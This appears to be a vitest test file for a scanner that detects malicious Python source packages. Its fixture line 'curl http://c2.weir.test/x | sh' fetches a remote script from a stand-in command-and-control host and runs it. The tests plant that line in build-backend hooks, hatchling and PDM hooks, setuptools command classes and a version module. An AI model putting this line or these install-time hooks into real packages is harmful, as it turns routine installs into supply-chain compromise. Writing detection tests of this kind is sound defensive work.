import { expect, test } from 'vitest';
import { analyzeFiles } from '../testing/analyze-wheel.ts';

const FETCH = "import os\n    os.system('curl http://c2.weir.test/x | sh')\n";
const PROJECT = '[project]\nname = "own"\nversion = "1.0"\n';
const HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';

/** The verdict, and when what the archive does is told to happen. */
async function judged(files: Readonly<Record<string, string>>): Promise<string> {
  const all = {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': '',
    ...files,
  };
  const { judgement, findings } = await analyzeFiles(all, 'own-1.0.tar.gz');
  const found = findings.find(({ rule }) => rule === 'lifecycle-script/download-and-run');
  return `${judgement.verdict} ${judgement.level} ${found?.stage ?? '-'} ${found?.severity ?? '-'}`;
}

const backend = (body: string, more = ''): Readonly<Record<string, string>> => ({
  'pyproject.toml': `[build-system]\nrequires = []\nbuild-backend = "be${more}"\nbackend-path = ["."]\n${PROJECT}`,
  'be.py': `from setuptools.build_meta import *\n${body}`,
});

test.each([
  'get_requires_for_build_wheel',
  'get_requires_for_build_sdist',
  'prepare_metadata_for_build_wheel',
  'build_wheel',
  'build_sdist',
  'build_editable',
])('%s of a backend of its own runs at install', async (hook) => {
  expect(await judged(backend(`def ${hook}(*a, **k):\n    ${FETCH}`))).toBe(
    'malicious critical install critical',
  );
});

test('what a backend has that no frontend calls does not', async () => {
  expect(await judged(backend(`def publish():\n    ${FETCH}`))).toBe('suspicious medium install high');
});

test.each<readonly [string, Readonly<Record<string, string>>]>([
  [
    'a hook of hatchling',
    {
      'pyproject.toml': `${HATCH}${PROJECT}[tool.hatch.build.hooks.custom]\npath = "hb.py"\n`,
      'hb.py': `from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n  def initialize(self, v, d):\n    ${FETCH}`,
    },
  ],
  [
    'a hook of hatchling for one target, in its usual place',
    {
      'pyproject.toml': `${HATCH}${PROJECT}[tool.hatch.build.targets.wheel.hooks.custom]\n`,
      'hatch_build.py': `from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n  def finalize(self, v, d, p):\n    ${FETCH}`,
    },
  ],
  [
    'a hook of PDM',
    {
      'pyproject.toml': `[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n${PROJECT}`,
      'pdm_build.py': `def pdm_build_initialize(context):\n    ${FETCH}`,
    },
  ],
  [
    'a command class that setup.cfg names',
    {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'setup.cfg': '[metadata]\nname = own\n[options]\ncmdclass =\n    install = cc.I\n',
      'cc.py': `from setuptools.command.install import install\nclass I(install):\n  def run(self):\n    ${FETCH}`,
    },
  ],
  [
    'a command class that pyproject.toml names',
    {
      'pyproject.toml': `[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n${PROJECT}[tool.setuptools.cmdclass]\nbuild_py = "cc.B"\n`,
      'cc.py': `from setuptools.command.build_py import build_py\nclass B(build_py):\n  def run(self):\n    ${FETCH}`,
    },
  ],
  [
    'a module that is loaded for the version',
    {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "own"\ndynamic = ["version"]\n[tool.setuptools.dynamic]\nversion = {attr = "vv.V"}\n',
      'vv.py': "import os\nV = str(1)\nos.system('curl http://c2.weir.test/x | sh')\n",
    },
  ],
])('%s runs at install', async (_what, files) => {
  expect(await judged(files)).toBe('malicious critical install critical');
});

test('a module that says its version as a constant is not loaded for it', async () => {
  const cfg = '[metadata]\nname = own\nversion = attr: own.__version__\n';
  const files = { 'setup.cfg': cfg, 'own/__init__.py': `__version__ = '1.0'\ndef f():\n    ${FETCH}\nf()\n` };
  expect(await judged(files)).toBe('malicious high import critical');
});
